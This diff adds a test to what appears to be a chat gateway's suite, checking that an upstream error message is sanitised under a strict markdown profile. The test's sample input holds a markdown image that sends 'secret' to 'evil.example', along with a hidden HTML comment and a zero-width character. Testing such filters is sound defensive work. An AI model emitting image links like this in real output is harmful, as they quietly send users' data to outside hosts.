@@ -200,6 +200,19 @@ def test_markdown_that_is_refused_does_not_leave(tmp_path):
         assert here.output().statement.predicate["outcome"] == "upstream_error"
 
 
+def test_a_message_of_an_error_is_cleaned_as_the_signed_profile_says(tmp_path):
+    cleaning = Cleaning("text/markdown", "strict")
+    message = "No. ![b](https://evil.example/b.png?d=secret) <!-- note -->Ask p\u200bayroll."
+    with desk(tmp_path, cleaning=cleaning) as here:
+        here.upstream.script(sim.error(400, message))
+        response = chat(here)
+        assert response.status == 400
+        leaf = check_released(here, response)
+    again = canonicalize(message, media_type=cleaning.media_type, profile=cleaning.profile)
+    assert (response.error["message"], again.profile) == (again.bytes.decode(), leaf.statement.predicate["profile"])
+    assert "secret" not in response.error["message"] and {one["code"] for one in leaf.findings} >= {"MD_IMAGE_HOST", "ZWSP_DROP"}
+
+
 def test_log_probabilities_are_null_and_listed(here):
     token = {"token": "x", "logprob": -0.1, "bytes": [120], "top_logprobs": []}
     here.upstream.script(sim.whole(sim.completion([{**sim.choice("x"), "logprobs": {"content": [token]}}])))
